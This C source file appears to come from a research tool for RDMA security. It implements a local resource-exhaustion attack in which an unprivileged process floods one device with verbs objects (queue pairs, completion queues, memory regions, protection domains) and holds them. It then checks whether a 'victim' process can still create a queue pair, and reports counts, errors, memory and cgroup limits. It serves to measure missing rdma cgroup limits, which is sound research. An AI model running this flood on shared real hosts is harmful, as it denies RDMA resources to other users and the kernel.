/* SPDX-License-Identifier: MIT */
/*
 * exhaust --local (NeVerMore §4.4): an unprivileged process creates verbs
 * objects on one device until the driver, the kernel or its rdma cgroup says
 * no, and holds them. RDMA limits are per device, not per user, so without
 * an rdma.max for the attacker's cgroup the next process on the host (any
 * user, or the kernel) finds none left. Reports, per kind, how many were
 * created, the errno that stopped it, the time and the memory it cost.
 */
#include <errno.h>
#include <infiniband/verbs.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "common/attack.h"
#include "exhaust.h"

static volatile sig_atomic_t stop_flag;

static void on_signal(int sig)
{
	(void)sig;
	stop_flag = 1;
}

long exh_read_file(const char *path, char *buf, size_t cap)
{
	FILE *f = fopen(path, "r");
	size_t n;

	if (!f)
		return -1;
	n = fread(buf, 1, cap - 1, f);
	if (ferror(f)) {
		fclose(f);
		return -1;
	}
	fclose(f);
	buf[n] = '\0';
	return (long)n;
}

static bool mem_available(uint64_t *kib)
{
	char buf[8192];
	long n = exh_read_file("/proc/meminfo", buf, sizeof(buf));
	return n > 0 && exh_meminfo_kib(buf, (size_t)n, "MemAvailable", kib);
}

/* Our cgroup and its rdma.max / rdma.current line for dev ("" if none). */
struct cg_view {
	char path[512];
	char max[64], cur[64];
	bool have_path;
};

static void cg_line(const char *cg, const char *file, const char *dev, char out[64])
{
	char path[640], buf[4096];
	struct exh_rdma_limit l;
	const char *why = "";
	long n;

	out[0] = '\0';
	if (snprintf(path, sizeof(path), "/sys/fs/cgroup%s/%s", strcmp(cg, "/") ? cg : "", file) >=
	    (int)sizeof(path))
		return;
	n = exh_read_file(path, buf, sizeof(buf));
	if (n < 0)
		return; /* the root cgroup has neither file */
	int r = exh_rdma_find(buf, (size_t)n, dev, &l, &why);
	if (r < 0)
		fprintf(stderr, "%s exhaust: %s: %s\n", PROG, path, why);
	else if (r == 1 && !exh_rdma_format(&l, out, 64))
		out[0] = '\0';
}

static void cg_read(struct cg_view *v, const char *dev, bool current_only)
{
	char buf[4096];
	long n = exh_read_file("/proc/self/cgroup", buf, sizeof(buf));

	if (!current_only) {
		memset(v, 0, sizeof(*v));
		v->have_path = n > 0 && exh_cgroup_v2_path(buf, (size_t)n, v->path, sizeof(v->path));
		if (v->have_path)
			cg_line(v->path, "rdma.max", dev, v->max);
	}
	if (v->have_path)
		cg_line(v->path, "rdma.current", dev, v->cur);
}

/* Lines of /proc/self/maps: each rxe QP maps its two queues, so vm.max_map_count caps one process. */
static long map_count(void)
{
	char buf[65536];
	long lines = 0;
	size_t r;
	FILE *f = fopen("/proc/self/maps", "r");

	if (!f)
		return -1;
	while ((r = fread(buf, 1, sizeof(buf), f)) > 0)
		for (size_t i = 0; i < r; i++)
			lines += buf[i] == '\n';
	if (ferror(f))
		lines = -1;
	fclose(f);
	return lines;
}

static long max_map_count(void)
{
	char buf[32];
	uint64_t v = 0;
	long n = exh_read_file("/proc/sys/vm/max_map_count", buf, sizeof(buf));

	/* "65530\n": digits, then the newline. */
	if (n <= 0)
		return -1;
	for (long i = 0; i < n && buf[i] != '\n'; i++) {
		if (buf[i] < '0' || buf[i] > '9' || v > 0xffffffffu)
			return -1;
		v = v * 10 + (uint64_t)(buf[i] - '0');
	}
	return (long)v;
}

struct kind_result {
	uint64_t created;
	int err;             /* 0: stopped by --max or a signal */
	double seconds;
	int64_t mem_kib;     /* MemAvailable before minus after */
	bool ran;
};

struct flood {
	struct ibv_context *ctx;
	struct ibv_pd *pd;
	struct ibv_cq *cq;   /* every QP's send and receive CQ */
	void *page;          /* every MR registers this one page again */
	void **objs[EXH_KINDS];
	uint64_t n[EXH_KINDS], cap[EXH_KINDS];
	struct kind_result r[EXH_KINDS];
};

static void *create_one(struct flood *f, enum exh_kind k)
{
	switch (k) {
	case EXH_QP: {
		struct ibv_qp_init_attr qa = {
			.send_cq = f->cq, .recv_cq = f->cq, .qp_type = IBV_QPT_RC,
			.cap = { .max_send_wr = 1, .max_recv_wr = 1, .max_send_sge = 1, .max_recv_sge = 1 },
		};
		return ibv_create_qp(f->pd, &qa);
	}
	case EXH_CQ:
		return ibv_create_cq(f->ctx, 1, NULL, NULL, 0);
	case EXH_MR:
		return ibv_reg_mr(f->pd, f->page, 4096, IBV_ACCESS_LOCAL_WRITE);
	case EXH_PD:
		return ibv_alloc_pd(f->ctx);
	default:
		errno = EINVAL;
		return NULL;
	}
}

static void destroy_one(enum exh_kind k, void *o)
{
	int rc = 0;

	switch (k) {
	case EXH_QP: rc = ibv_destroy_qp(o); break;
	case EXH_CQ: rc = ibv_destroy_cq(o); break;
	case EXH_MR: rc = ibv_dereg_mr(o); break;
	case EXH_PD: rc = ibv_dealloc_pd(o); break;
	default: break;
	}
	if (rc)
		fprintf(stderr, "%s exhaust: destroying a %s failed: %s\n", PROG, exh_kind_name(k), strerror(rc));
}

/* Create objects of kind k until failure, max or a signal. */
static void flood_kind(struct flood *f, enum exh_kind k, uint32_t max)
{
	struct kind_result *r = &f->r[k];
	struct progress prog;
	uint64_t before = 0, after = 0;
	bool have_mem = mem_available(&before);
	double t0 = now_s();
	char label[32];

	r->ran = true;
	snprintf(label, sizeof(label), "create %s", exh_kind_name(k));
	progress_start(&prog, label, max);
	while (f->n[k] < max && !stop_flag) {
		if (f->n[k] == f->cap[k]) {
			uint64_t cap = f->cap[k] ? f->cap[k] * 2 : 1024;
			void **p = realloc(f->objs[k], cap * sizeof(*p));
			if (!p) {
				r->err = ENOMEM;
				break;
			}
			f->objs[k] = p;
			f->cap[k] = cap;
		}
		errno = 0;
		void *o = create_one(f, k);
		if (!o) {
			r->err = errno ? errno : EIO;
			break;
		}
		f->objs[k][f->n[k]++] = o;
		progress_update(&prog, f->n[k]);
	}
	progress_end(&prog);
	r->seconds = now_s() - t0;
	r->created = f->n[k];
	if (have_mem && mem_available(&after))
		r->mem_kib = (int64_t)before - (int64_t)after;
	if (!prog.on)
		fprintf(stderr, "%s exhaust: %llu %s created in %.2f s%s%s\n", PROG, (unsigned long long)r->created,
			exh_kind_name(k), r->seconds, r->err ? ", then: " : "", r->err ? strerror(r->err) : "");
}

static void flood_free(struct flood *f)
{
	/* QPs before the CQ and PD they use, MRs before their PD. */
	static const enum exh_kind order[] = { EXH_QP, EXH_MR, EXH_CQ, EXH_PD };

	for (size_t i = 0; i < sizeof(order) / sizeof(order[0]); i++) {
		enum exh_kind k = order[i];
		for (uint64_t j = f->n[k]; j > 0; j--)
			destroy_one(k, f->objs[k][j - 1]);
		free(f->objs[k]);
	}
	if (f->cq)
		(void)ibv_destroy_cq(f->cq);
	if (f->pd)
		(void)ibv_dealloc_pd(f->pd);
	if (f->ctx)
		(void)ibv_close_device(f->ctx);
	free(f->page);
}

/* Open dev and create a PD, a CQ and one RC QP: what any victim needs. NULL step: all created. */
static const char *one_qp(const char *dev, int *err)
{
	struct ibv_device **list = ibv_get_device_list(NULL);
	struct ibv_context *ctx = NULL;
	struct ibv_pd *pd = NULL;
	struct ibv_cq *cq = NULL;
	struct ibv_qp *qp = NULL;
	struct ibv_qp_init_attr qa = { .qp_type = IBV_QPT_RC,
				       .cap = { .max_send_wr = 1, .max_recv_wr = 1, .max_send_sge = 1,
						.max_recv_sge = 1 } };
	const char *step = "open";

	*err = ENODEV;
	for (int i = 0; list && list[i] && !ctx; i++) {
		if (dev && strcmp(ibv_get_device_name(list[i]), dev))
			continue;
		errno = 0;
		if (!(ctx = ibv_open_device(list[i])))
			*err = errno ? errno : EIO;
		break;
	}
	if (list)
		ibv_free_device_list(list);
	if (!ctx)
		return step;
	errno = 0;
	if (!(pd = ibv_alloc_pd(ctx)) && (step = "pd"))
		goto out;
	if (!(cq = ibv_create_cq(ctx, 1, NULL, NULL, 0)) && (step = "cq"))
		goto out;
	qa.send_cq = qa.recv_cq = cq;
	if (!(qp = ibv_create_qp(pd, &qa)) && (step = "qp"))
		goto out;
	step = NULL;
out:
	*err = step ? (errno ? errno : EIO) : 0;
	if (qp)
		(void)ibv_destroy_qp(qp);
	if (cq)
		(void)ibv_destroy_cq(cq);
	if (pd)
		(void)ibv_dealloc_pd(pd);
	(void)ibv_close_device(ctx);
	return step;
}

int exhaust_one_qp(const char *dev, bool json)
{
	int err;
	char eb[16];
	const char *step = one_qp(dev, &err);

	if (json) {
		struct json j;
		json_begin(&j, "exhaust");
		json_str(&j, "mode", "one-qp");
		json_str(&j, "device", dev ? dev : "");
		json_str(&j, "result", step ? "refused" : "created");
		json_str(&j, "step", step ? step : "");
		json_str(&j, "errno", exh_errno_name(err, eb));
		json_boolean(&j, "ok", true);
		json_end(&j);
	} else if (step) {
		printf("one-qp: refused at %s: %s\n", step, exh_errno_name(err, eb));
	} else {
		printf("one-qp: created\n");
	}
	fflush(stdout);
	return step ? 3 : 0;
}

/*
 * Another process tries one QP while we hold ours: this program again
 * (exec, so it shares neither our verbs context nor our mappings: a forked
 * copy would inherit our tens of thousands of queue mmaps and fail on those),
 * the same user and cgroup. Fills v; false if it could not be run.
 */
static bool victim_try(const char *dev, struct exh_one_qp *v)
{
	char buf[128];
	size_t got = 0;
	int fds[2], status;
	pid_t pid;

	if (pipe(fds))
		return false;
	fflush(stdout);
	fflush(stderr);
	pid = fork();
	if (pid < 0) {
		close(fds[0]);
		close(fds[1]);
		return false;
	}
	if (pid == 0) {
		if (dup2(fds[1], STDOUT_FILENO) < 0)
			_exit(1);
		close(fds[0]);
		close(fds[1]);
		execl("/proc/self/exe", PROG, "exhaust", "--one-qp", "-d", dev, (char *)NULL);
		_exit(1);
	}
	close(fds[1]);
	for (;;) {
		ssize_t r = read(fds[0], buf + got, sizeof(buf) - 1 - got);
		if (r > 0 && (got += (size_t)r) < sizeof(buf) - 1)
			continue;
		if (r < 0 && errno == EINTR)
			continue;
		break;
	}
	close(fds[0]);
	while (waitpid(pid, &status, 0) < 0) {
		if (errno != EINTR)
			return false;
	}
	if (!WIFEXITED(status) || (WEXITSTATUS(status) != 0 && WEXITSTATUS(status) != 3))
		return false;
	return exh_one_qp_parse(buf, got, v);
}

static void json_kind(struct json *j, enum exh_kind k, const struct kind_result *r)
{
	char key[32], eb[16];
	const char *n = exh_kind_name(k);

#define KEY(suffix) (snprintf(key, sizeof(key), "%s_%s", n, suffix), key)
	json_u64(j, KEY("created"), r->created);
	json_str(j, KEY("stop"), r->err ? "error" : stop_flag ? "signal" : "max");
	json_str(j, KEY("errno"), exh_errno_name(r->err, eb));
	json_str(j, KEY("error"), r->err ? strerror(r->err) : "");
	json_num(j, KEY("seconds"), r->seconds);
	json_num(j, KEY("per_second"), r->seconds > 0 ? (double)r->created / r->seconds : 0);
	json_num(j, KEY("mem_kib"), (double)r->mem_kib);
	json_num(j, KEY("mem_kib_each"), r->created ? (double)r->mem_kib / (double)r->created : 0);
#undef KEY
}

/* What the flood leaves to report, besides each kind's result in the flood. */
struct local_findings {
	const char *dev;
	struct cg_view cg;
	struct exh_one_qp v;
	bool vran;           /* the other process ran */
	long maps, maps_max;
	double teardown_s;
};

/* The page MRs register and the PD and CQ every QP needs (they count against rdma.max too). */
static bool flood_prepare(struct flood *f)
{
	if (posix_memalign(&f->page, 4096, 4096)) {
		f->page = NULL;
		return false;
	}
	memset(f->page, 0, 4096);
	if (!(f->pd = ibv_alloc_pd(f->ctx)) || !(f->cq = ibv_create_cq(f->ctx, 1, NULL, NULL, 0))) {
		fprintf(stderr, "%s exhaust: cannot create the first PD/CQ: %s\n", PROG, strerror(errno));
		return false;
	}
	return true;
}

/* While we hold everything: can another process of ours still create a QP? */
static void check_victim(struct local_findings *lf)
{
	struct exh_one_qp *v = &lf->v;

	lf->vran = victim_try(lf->dev, v);
	fprintf(stderr, "%s exhaust: another process %s%s%s%s\n", PROG,
		!lf->vran ? "could not be run" : v->created ? "still created a QP" : "was refused at ",
		lf->vran && !v->created ? v->step : "", lf->vran && !v->created ? ": " : "",
		lf->vran && !v->created ? v->err : "");
}

static void hold_for(double seconds)
{
	double hold_start = now_s();

	if (seconds > 0)
		fprintf(stderr, "%s exhaust: holding for %.1f s\n", PROG, seconds);
	while (!stop_flag && now_s() - hold_start < seconds)
		usleep(50000);
}

static void report_json(const struct exh_local_cfg *cfg, const struct flood *f, const struct local_findings *lf)
{
	bool refused = lf->vran && !lf->v.created;
	struct json j;

	json_begin(&j, "exhaust");
	json_str(&j, "mode", "local");
	json_str(&j, "device", lf->dev);
	json_u64(&j, "uid", (uint64_t)getuid());
	json_str(&j, "cgroup", lf->cg.have_path ? lf->cg.path : "");
	json_str(&j, "rdma_max", lf->cg.max);
	json_str(&j, "rdma_current", lf->cg.cur);
	json_u64(&j, "max", cfg->max);
	for (enum exh_kind k = 0; k < EXH_KINDS; k++)
		if (cfg->kinds & (1u << k))
			json_kind(&j, k, &f->r[k]);
	if (cfg->victim_check) {
		json_str(&j, "victim", !lf->vran ? "not-run" : lf->v.created ? "created-qp" : "refused");
		json_str(&j, "victim_step", refused ? lf->v.step : "");
		json_str(&j, "victim_errno", refused ? lf->v.err : "");
	}
	json_num(&j, "maps", (double)lf->maps);
	json_num(&j, "max_map_count", (double)lf->maps_max);
	json_num(&j, "teardown_s", lf->teardown_s);
	json_boolean(&j, "ok", true);
	json_end(&j);
}

static void report_text(const struct exh_local_cfg *cfg, const struct flood *f, const struct local_findings *lf)
{
	bool refused = lf->vran && !lf->v.created;
	char eb[16];

	printf("device %s, cgroup %s, rdma.max %s\n", lf->dev, lf->cg.have_path ? lf->cg.path : "?",
	       lf->cg.max[0] ? lf->cg.max : "(none)");
	for (enum exh_kind k = 0; k < EXH_KINDS; k++) {
		const struct kind_result *r = &f->r[k];
		if (!(cfg->kinds & (1u << k)))
			continue;
		printf("%s: %llu created in %.2f s (%.0f/s), %s%s, memory %lld KiB (%.1f KiB each)\n",
		       exh_kind_name(k), (unsigned long long)r->created, r->seconds,
		       r->seconds > 0 ? (double)r->created / r->seconds : 0.0,
		       r->err ? "stopped by " : "stopped at --max", r->err ? exh_errno_name(r->err, eb) : "",
		       (long long)r->mem_kib,
		       r->created ? (double)r->mem_kib / (double)r->created : 0.0);
	}
	if (cfg->victim_check)
		printf("another process: %s%s%s%s\n",
		       !lf->vran ? "could not be run" : lf->v.created ? "created its QP" : "refused with ",
		       refused ? lf->v.err : "", refused ? " at " : "", refused ? lf->v.step : "");
	printf("memory mappings %ld of vm.max_map_count %ld\nteardown %.2f s\n", lf->maps, lf->maps_max,
	       lf->teardown_s);
}

int exhaust_local(const struct exh_local_cfg *cfg)
{
	struct flood f = { 0 };
	struct local_findings lf = { 0 };
	struct sigaction sa = { .sa_handler = on_signal };

	sigemptyset(&sa.sa_mask);
	if (sigaction(SIGINT, &sa, NULL) || sigaction(SIGTERM, &sa, NULL))
		return 1;
	if (!(f.ctx = open_device(cfg->dev)))
		return 1;
	lf.dev = ibv_get_device_name(f.ctx->device);
	cg_read(&lf.cg, lf.dev, false);
	if (!flood_prepare(&f)) {
		flood_free(&f);
		return 1;
	}
	fprintf(stderr, "%s exhaust: device %s, cgroup %s, rdma.max %s\n", PROG, lf.dev,
		lf.cg.have_path ? lf.cg.path : "?", lf.cg.max[0] ? lf.cg.max : "(none)");
	for (enum exh_kind k = 0; k < EXH_KINDS && !stop_flag; k++)
		if (cfg->kinds & (1u << k))
			flood_kind(&f, k, cfg->max);
	cg_read(&lf.cg, lf.dev, true);
	lf.maps = map_count();
	lf.maps_max = max_map_count();
	if (cfg->victim_check)
		check_victim(&lf);
	hold_for(cfg->hold_s);
	double t0 = now_s();
	flood_free(&f); /* leaves f.r, the results, alone */
	lf.teardown_s = now_s() - t0;
	if (cfg->json)
		report_json(cfg, &f, &lf);
	else
		report_text(cfg, &f, &lf);
	return 0;
}
